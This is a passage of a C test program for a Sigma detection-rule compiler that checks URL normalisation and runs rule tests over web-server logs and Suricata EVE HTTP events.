        memcpy(pq, p, pn);
        pq[pn] = '?';
        memcpy(pq + pn + 1, q, qn);
        size_t npn = sigma_url_normalize(p, pn, np, sizeof(np));
        size_t nqn = sigma_url_normalize(q, qn, nq, sizeof(nq));
        size_t nun = sigma_url_normalize(pq, pn + 1 + qn, nu, sizeof(nu));
        memcpy(joined, np, npn);
        joined[npn] = '?';
        memcpy(joined + npn + 1, nq, nqn);
        bool ok = nun == npn + 1 + nqn && !memcmp(nu, joined, nun);
        same += ok;
        if (!ok && same + 1 == r + 1) /* the first difference only */
            fprintf(stderr, "url split differs: %.*s\n", (int)(pn + 1 + qn), pq);
    }
    CHECK_EQ_INT(same, rounds);
    printf("url split: %u/%u random URLs normalise as their joined parts\n", same, rounds);
}

int main(void)
{
    const char *src = getenv("CW_SOURCE_DIR");
    const char *seed = getenv("CW_SEED");
    snprintf(fieldmap, sizeof(fieldmap), "%s/rules/fieldmap.conf", src ? src : "..");
    rng_state = seed ? strtoull(seed, NULL, 10) : 0x5eed5eedull;
    if (!rng_state)
        rng_state = 1;
    printf("seed %llu\n", (unsigned long long)rng_state);
    test_url_split();

    struct cw_buf web = CW_BUF_INIT, eve = CW_BUF_INIT, syn = CW_BUF_INIT;
    load_weblogs(&web);
    load_eve_http(&eve, 400);
    synth_lines(&syn, 600);
    struct cw_batch wb, eb, pool;
    cw_batch_init(&wb);
    cw_batch_init(&eb);
    cw_batch_init(&pool);
    parse(&wb, "combined", web.data, web.len);
    parse(&eb, "eve", eve.data, eve.len);
    printf("records: %u web-log lines (%u rejected), %u EVE http events\n", wb.n, wb.nrej, eb.n);
    CHECK(wb.n > 30000);
    CHECK(eb.n > 300);
    if (!wb.n || !eb.n) { /* no shared data: nothing more to compare */
        cw_batch_release(&wb);
        cw_batch_release(&eb);
        cw_batch_release(&pool);
        cw_buf_release(&web);
        cw_buf_release(&eve);
        cw_buf_release(&syn);
        return cw_test_finish("test_sigma_compile");
    }

    /* the random pool: a sample of real lines + synthetic lines + EVE http */
    struct cw_buf sample = CW_BUF_INIT;
    for (uint32_t i = 0; i < 1500; i++) {
        const struct cw_record *r = &wb.recs[rn(wb.n)];
        cw_buf_add(&sample, r->raw, r->raw_len);
        cw_buf_add(&sample, "\n", 1);
    }
    cw_buf_add(&sample, syn.data, syn.len);
    parse(&pool, "combined", sample.data, sample.len);
    parse(&pool, "eve", eve.data, eve.len);

    test_regex_requirements();
    test_random(&pool);
    test_threads(&wb);
    test_real(&wb, &eb);

    cw_buf_release(&sample);
    cw_buf_release(&web);
    cw_buf_release(&eve);
    cw_buf_release(&syn);
    cw_batch_release(&wb);
    cw_batch_release(&eb);
    cw_batch_release(&pool);
    return cw_test_finish("test_sigma_compile");
}
